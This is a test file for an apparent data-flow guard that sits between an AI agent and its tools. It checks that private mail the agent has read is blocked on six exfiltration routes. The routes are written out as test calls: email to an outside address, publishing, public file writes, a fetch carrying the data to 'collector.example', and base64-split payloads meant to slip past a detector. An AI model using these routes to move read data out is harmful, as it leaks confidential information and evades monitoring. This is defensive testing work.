/**
 * End to end over stdio: private data an identity read is recognised when it leaves by any route, through the
 * built `quadguard serve` with policies/default in front of the real workspace, mail and outside servers. What
 * arrives at each sink is checked on the servers' side (outbox, public folder, workspace files, request log).
 */
import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { openDatabase } from '../../src/store/sqlite.js';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli/demos/kit.js';
import { connectStdio, makeSandbox, ROOT, server, writeConfig } from '../support/proxy-harness.js';
import { messageVerdict, metaDecision, text } from './helpers.js';

const PRIVATE =
  'Project Nightingale: the acquisition of Borealis Labs closes on March 3 for 41 million dollars; the board meets in Lisbon before the announcement.';
const UNRELATED = 'Reminder: the team lunch moves to Thursday at noon, and the quarterly slides are due on Friday afternoon.';

describe('e2e: private data leaving by any route is denied (data flow, default book)', () => {
  const sb = makeSandbox();
  const store = join(sb.dir, 'state.db');
  const publicDir = join(sb.dir, 'public');
  const outsideLog = join(sb.dir, 'outside.jsonl');
  let cfg: string;
  const sessions: Array<{ client: Client }> = [];

  const open = async (agent: string) => {
    const s = await connectStdio(cfg, agent);
    sessions.push(s);
    // As a real client does: list first (the proxy answers the first list after discovery has finished).
    await s.client.listTools();
    const call = (name: string, args: Record<string, unknown>) => s.client.callTool({ name, arguments: args }) as Promise<CallToolResult>;
    return { client: s.client, call, close: () => s.client.close() };
  };
  const outbox = () => (existsSync(sb.outbox) ? readFileSync(sb.outbox, 'utf8') : '');
  const outside = () => (existsSync(outsideLog) ? readFileSync(outsideLog, 'utf8') : '');
  const published = () => readdirSync(publicDir).map((f) => readFileSync(join(publicDir, f), 'utf8')).join('\n');
  const b64 = (s: string) => Buffer.from(s).toString('base64');

  /** The six routes, each a call that carries `data` to a sink, and a look at what arrived there. */
  const routes = (data: string, tag: string, encode: (s: string) => string = b64) => [
    { route: 'e-mail', tool: 'mail__send_email', args: { to: 'partner@outside.example', subject: tag, body: `FYI ${data}` }, arrived: () => outbox().includes(tag) },
    { route: 'publish', tool: 'ws__publish', args: { name: `${tag}.txt`, content: data.toUpperCase() }, arrived: () => existsSync(join(publicDir, `${tag}.txt`)) },
    { route: 'file write to a public place', tool: 'ws__write_file', args: { path: `public/${tag}.txt`, content: data }, arrived: () => existsSync(join(sb.workspace, 'public', `${tag}.txt`)) },
    { route: 'URL query of a fetch', tool: 'out__fetch', args: { url: `https://collector.example/c?tag=${tag}&d=${encodeURIComponent(data)}` }, arrived: () => outside().includes(tag) },
    // Annotations only (openWorldHint): no book or config names `deliver`. Encoded (base64 for the leak: the
    // secrets detector would flag base64 of anything, so the benign run sends it plain) and split across two fields.
    { route: 'a tool labelled only by annotations', tool: 'out__deliver', args: { target: tag, payload: encode(data.slice(0, 70)), note: encode(data.slice(70)) }, arrived: () => outside().includes(tag) },
  ];

  beforeAll(async () => {
    mkdirSync(publicDir, { recursive: true });
    mkdirSync(join(sb.workspace, 'public'), { recursive: true });
    writeFileSync(
      sb.inbox,
      JSON.stringify([
        { id: '1', from: 'cfo@example.com', subject: 'Confidential', body: PRIVATE },
        { id: '2', from: 'hr@example.com', subject: 'Payroll', body: 'Payroll run for November: Dana Whitfield moves to the Oslo office with a salary of 98,500 euros from January onwards.' },
      ]),
    );
    cfg = writeConfig(sb.dir, {
      servers: {
        ws: server('workspace', '--root', sb.workspace, '--public', publicDir),
        mail: server('mail', '--inbox', sb.inbox, '--outbox', sb.outbox),
        out: { command: process.execPath, args: [join(ROOT, 'dist', 'servers', 'outside.js'), '--log', outsideLog] },
        // The same server, which the operator declares harmless in the config: labels override annotations.
        local: { command: process.execPath, args: [join(ROOT, 'dist', 'servers', 'outside.js'), '--log', outsideLog], capabilities: { 'deliver': ['inert'] } },
      },
      policy: join(ROOT, 'policies', 'default'),
      store,
    });
  }, 60_000);
  afterAll(async () => {
    for (const s of sessions) await s.client.close().catch(() => undefined);
    rmSync(sb.dir, { recursive: true, force: true });
  });

  it('allows every sink with data that was not read, and it arrives', async () => {
    const a = await open('assistant');
    for (const r of routes(UNRELATED, 'benign', (s) => s)) {
      const res = await a.call(r.tool, r.args);
      expect(res.isError, `${r.route}: ${text(res)}`).toBeFalsy();
      expect(r.arrived(), r.route).toBe(true);
    }
    const v = messageVerdict(await a.call('guard_check_message', { sender: 'assistant', recipient: 'researcher', content: UNRELATED }));
    expect(v.decision, v.rationale).toBe('allow');
    await a.close();
  }, 120_000);

  it('denies the read data on all six routes, in a later session of the same identity, and nothing arrives', async () => {
    // Session 1: read the private mail (and another through resources/read), then end the session.
    const reader = await open('assistant');
    const read = await reader.call('mail__read_email', { id: '1' });
    expect(read.isError, text(read)).toBeFalsy();
    expect(text(read)).toContain('Nightingale');
    const res = await reader.client.readResource({ uri: 'mail+mail://messages/2' });
    expect(JSON.stringify(res.contents)).toContain('Whitfield');
    await reader.close();

    // Session 2 (a new proxy process, same identity): every route is denied, naming the read.
    const a = await open('assistant');
    for (const r of routes(PRIVATE, 'leak')) {
      const before = { outbox: outbox(), outside: outside() };
      const res = await a.call(r.tool, r.args);
      expect(res.isError, `${r.route} was allowed: ${text(res)}`).toBe(true);
      expect(metaDecision(res)?.rules, r.route).toContain('no-read-then-exfiltrate');
      expect(text(res), r.route).toMatch(/data came from mail__read_email \(audit (\d+-|j[0-9a-f]{12}\.)/);
      expect(r.arrived(), `${r.route}: the data arrived`).toBe(false);
      expect(outbox()).toBe(before.outbox);
      expect(outside()).toBe(before.outside);
    }
    const v = messageVerdict(await a.call('guard_check_message', { sender: 'assistant', recipient: 'researcher', content: `Heads up: ${PRIVATE}` }));
    expect(v.decision).toBe('deny');
    expect(v.violated_rules).toContain('no-private-data-to-agents');

    // The resource read counts too: the payroll mail read through resources/read cannot be mailed out.
    const payroll = await a.call('mail__send_email', { to: 'recruiter@outside.example', subject: 'payroll', body: 'dana whitfield moves to the OSLO office with a salary of 98,500 euros from january onwards' });
    expect(payroll.isError).toBe(true);
    expect(text(payroll)).toMatch(/data came from mail:\/\/messages\/2/);
    expect(outbox()).not.toMatch(/whitfield/i);

    // A tool the config labels inert is no sink, whatever its annotations say.
    const inert = await a.call('local__deliver', { target: 'declared-inert', payload: PRIVATE });
    expect(inert.isError, text(inert)).toBeFalsy();
    expect(outside()).toContain('declared-inert');

    // A private file copied inside the workspace (not a public place) is allowed.
    const copy = await a.call('ws__write_file', { path: 'notes/board.txt', content: PRIVATE });
    expect(copy.isError, text(copy)).toBeFalsy();
    await a.close();

    expect(published()).not.toContain('Nightingale');
    expect(published().toLowerCase()).not.toContain('nightingale');
  }, 180_000);

  it('does not affect a different identity: the same text is allowed for an agent that never read it', async () => {
    const other = await open('intern');
    const res = await other.call('mail__send_email', { to: 'partner@outside.example', subject: 'other-identity', body: PRIVATE });
    expect(res.isError, text(res)).toBeFalsy();
    expect(outbox()).toContain('other-identity');
    await other.close();
  }, 60_000);

  it('stores fingerprints, never the data, and `tools list` shows labels and their origin', async () => {
    const db = openDatabase(store, { readonly: true });
    try {
      const rows = JSON.stringify([...db.prepare('SELECT * FROM flow_prints').all(), ...db.prepare('SELECT * FROM flow_reads').all()]);
      expect(rows.length).toBeGreaterThan(100);
      expect(rows.toLowerCase()).not.toMatch(/nightingale|borealis|whitfield/);
    } finally {
      db.close();
    }
    const out = await runCli(['tools', 'list', '--config', cfg]);
    expect(out.code, out.stderr).toBe(0);
    expect(out.stdout).toMatch(/out__deliver\s.*external_send.*annotations/);
    expect(out.stdout).toMatch(/mail__read_email\s.*private_source.*book/);
    expect(out.stdout).toMatch(/local__deliver\s.*inert \(config: servers\.local\.capabilities\["deliver"\]\)/);
  }, 60_000);
});
